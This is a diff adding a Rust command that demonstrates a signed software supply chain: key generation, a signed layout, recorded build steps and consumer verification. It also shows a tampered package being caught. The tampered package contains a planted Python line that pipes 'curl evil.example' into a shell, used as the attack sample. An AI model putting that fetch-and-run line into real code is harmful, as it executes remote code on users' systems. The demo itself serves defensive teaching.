@@ -1,0 +1,244 @@
+//! `intact demo`: a whole supply chain in one command, for a newcomer's
+//! first five minutes. It calls the same libraries the other commands use
+//! and prints the equivalent command for each step.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use anyhow::{bail, Context, Result};
+use clap::Args;
+use intact_crypto::{sign_metadata, write_key_pair, SigningKey};
+use intact_layout::{sign_layout, BuildOptions, Source};
+use intact_model::{Container, Link, Metadata};
+use intact_record::{record_run, record_start, record_stop, HashOptions, RunOptions};
+use intact_verify::{verify, DirLinkSource, Report, VerifyOptions};
+
+use crate::Outcome;
+
+/// The classic demo layout shipped in layouts/.
+const DEMO_LAYOUT: &str = include_str!("../../../../layouts/demo.yaml");
+
+#[derive(Args)]
+pub struct DemoArgs {
+    /// Work in this directory (created; must be empty) instead of a temporary one.
+    #[arg(long)]
+    dir: Option<PathBuf>,
+    /// Keep the temporary directory to look at afterwards.
+    #[arg(long)]
+    keep: bool,
+}
+
+fn say(line: &str) {
+    println!("{line}");
+}
+
+fn git(dir: &Path, args: &[&str]) -> Result<()> {
+    let out = Command::new("git")
+        .args([
+            "-c",
+            "user.name=Bob",
+            "-c",
+            "user.email=bob@example.com",
+            "-c",
+            "commit.gpgsign=false",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .context("running git (needed by the demo's clone step)")?;
+    if !out.status.success() {
+        bail!(
+            "git {}: {}",
+            args.join(" "),
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    Ok(())
+}
+
+fn key(dir: &Path, name: &str) -> Result<SigningKey> {
+    let key = SigningKey::generate_ed25519();
+    write_key_pair(
+        &key,
+        &dir.join(format!("{name}.pem")),
+        &dir.join(format!("{name}.pub")),
+        None,
+    )?;
+    Ok(key)
+}
+
+fn save_link(link: Link, key: &SigningKey, dir: &Path) -> Result<String> {
+    let mut md = Metadata::new(link.clone().into(), Container::Metablock)?;
+    let keyid = sign_metadata(&mut md, key)?;
+    let name = link.name.link_file_name(&keyid);
+    md.save(&dir.join(&name))?;
+    Ok(name)
+}
+
+pub fn run(a: DemoArgs) -> Result<Outcome> {
+    let temp;
+    let root = match &a.dir {
+        Some(d) => {
+            std::fs::create_dir_all(d).with_context(|| format!("creating {}", d.display()))?;
+            if std::fs::read_dir(d)?.next().is_some() {
+                bail!("{}: the demo directory must be empty", d.display());
+            }
+            d.canonicalize()?
+        }
+        None => {
+            temp = tempfile::Builder::new().prefix("intact-demo-").tempdir()?;
+            if a.keep {
+                temp.keep()
+            } else {
+                temp.path().to_path_buf()
+            }
+        }
+    };
+    let outcome = demo(&root);
+    if a.dir.is_some() || a.keep {
+        say(&format!("\nEverything is in {}", root.display()));
+    }
+    outcome
+}
+
+fn demo(root: &Path) -> Result<Outcome> {
+    let (keys, work, upstream) = (root.join("keys"), root.join("work"), root.join("upstream"));
+    for d in [&keys, &work, &upstream] {
+        std::fs::create_dir_all(d)?;
+    }
+    say("== 1. Keys: Alice owns the project, Bob and Carl are functionaries");
+    let alice = key(&keys, "alice")?;
+    let bob = key(&keys, "bob")?;
+    let carl = key(&keys, "carl")?;
+    say("$ intact key generate keys/alice   (and keys/bob, keys/carl)");
+
+    say("\n== 2. Alice builds and signs the layout (layouts/demo.yaml)");
+    let project = upstream.join("demo-project");
+    std::fs::create_dir_all(&project)?;
+    std::fs::write(project.join("foo.py"), "VERSION = \"foo-v0\"\n")?;
+    git(&project, &["init", "-q"])?;
+    git(&project, &["add", "foo.py"])?;
+    git(&project, &["commit", "-q", "-m", "foo v0"])?;
+    let yaml = root.join("demo.yaml");
+    std::fs::write(&yaml, DEMO_LAYOUT)?;
+    let repo = project.display().to_string();
+    let source = Source::load(&yaml)?;
+    let compiled = source.compile(&BuildOptions {
+        parameters: BTreeMap::from([("REPO".to_string(), repo.clone())]),
+        ..BuildOptions::default()
+    })?;
+    if compiled.has_errors() {
+        bail!("the demo layout has errors: {:?}", compiled.findings);
+    }
+    let layout = sign_layout(
+        &compiled.layout,
+        std::slice::from_ref(&alice),
+        Container::Metablock,
+    )?;
+    layout.save(&root.join("root.layout"))?;
+    say("$ intact layout build demo.yaml --key keys/alice.pem --param REPO=<repo> -o root.layout");
+
+    say("\n== 3. The functionaries record their steps (in work/)");
+    let hash = HashOptions {
+        base_path: Some(work.clone()),
+        ..HashOptions::default()
+    };
+    let quiet = RunOptions {
+        passthrough: false,
+        cwd: Some(work.clone()),
+        ..RunOptions::default()
+    };
+    let clone_cmd = vec!["git".to_string(), "clone".into(), repo.clone()];
+    let (link, _) = record_run(
+        "clone".parse().map_err(anyhow::Error::msg)?,
+        &[],
+        &["demo-project".into()],
+        Some(&clone_cmd),
+        &hash,
+        &quiet,
+    )?;
+    let f = save_link(link, &bob, &work)?;
+    say(&format!("$ intact run --step clone --key keys/bob.pem --products demo-project -- git clone <repo>   -> {f}"));
+
+    let start = record_start(
+        "update-version".parse().map_err(anyhow::Error::msg)?,
+        &["demo-project".into()],
+        &hash,
+    )?;
+    std::fs::write(work.join("demo-project/foo.py"), "VERSION = \"foo-v1\"\n")?;
+    let link = record_stop(start, &["demo-project".into()], &hash)?;
+    let f = save_link(link, &bob, &work)?;
+    say("$ intact record start --step update-version --key keys/bob.pem --materials demo-project");
+    say("  (Bob edits demo-project/foo.py: foo-v0 -> foo-v1)");
+    say(&format!("$ intact record stop --step update-version --key keys/bob.pem --products demo-project   -> {f}"));
+
+    let tar_cmd: Vec<String> = "tar --exclude .git -zcvf demo-project.tar.gz demo-project"
+        .split(' ')
+        .map(str::to_string)
+        .collect();
+    let (link, result) = record_run(
+        "package".parse().map_err(anyhow::Error::msg)?,
+        &["demo-project".into()],
+        &["demo-project.tar.gz".into()],
+        Some(&tar_cmd),
+        &hash,
+        &quiet,
+    )?;
+    if result.is_some_and(|r| r.return_value != 0) {
+        bail!("tar failed in {}", work.display());
+    }
+    let f = save_link(link, &carl, &work)?;
+    say(&format!("$ intact run --step package --key keys/carl.pem --materials demo-project --products demo-project.tar.gz -- {}   -> {f}", tar_cmd.join(" ")));
+
+    say("\n== 4. A consumer verifies the package (in final/)");
+    let good = consumer_dir(root, "final", &work.join("demo-project.tar.gz"))?;
+    say("$ intact verify --layout root.layout --layout-key alice.pub --link-dir ../work");
+    let report = verify_in(&good, &work, &alice)?;
+    println!("{report}");
+
+    say("\n== 5. Someone swaps the package for a tampered one (in tampered/)");
+    let evil = root.join("evil");
+    std::fs::create_dir_all(evil.join("demo-project"))?;
+    std::fs::write(
+        evil.join("demo-project/foo.py"),
+        "VERSION = \"foo-v1\"; import os; os.system('curl evil.example | sh')\n",
+    )?;
+    let tar = Command::new("tar")
+        .args(["-zcf", "demo-project.tar.gz", "demo-project"])
+        .current_dir(&evil)
+        .status()?;
+    if !tar.success() {
+        bail!("tar failed in {}", evil.display());
+    }
+    let bad = consumer_dir(root, "tampered", &evil.join("demo-project.tar.gz"))?;
+    say("$ intact verify --layout root.layout --layout-key alice.pub --link-dir ../work");
+    let tampered = verify_in(&bad, &work, &alice)?;
+    println!("{tampered}");
+
+    say("");
+    if report.verified && !tampered.verified {
+        say("The honest chain verified and the tampered package was caught.");
+        Ok(Outcome::Ok)
+    } else {
+        say("Unexpected: the demo did not behave as designed.");
+        Ok(Outcome::Failed)
+    }
+}
+
+/// A consumer's directory: the layout, the owner's public key, the package.
+fn consumer_dir(root: &Path, name: &str, package: &Path) -> Result<PathBuf> {
+    let dir = root.join(name);
+    std::fs::create_dir_all(&dir)?;
+    std::fs::copy(root.join("root.layout"), dir.join("root.layout"))?;
+    std::fs::copy(root.join("keys/alice.pub"), dir.join("alice.pub"))?;
+    std::fs::copy(package, dir.join("demo-project.tar.gz"))?;
+    Ok(dir)
+}
+
+fn verify_in(dir: &Path, links: &Path, owner: &SigningKey) -> Result<Report> {
+    let layout = Metadata::load(&dir.join("root.layout"))?;
+    let keys = BTreeMap::from([(owner.keyid()?, owner.public_key().clone())]);
+    let opts = VerifyOptions::new().workdir(dir);
+    Ok(verify(&layout, &keys, &DirLinkSource::new(links), &opts)?)
+}
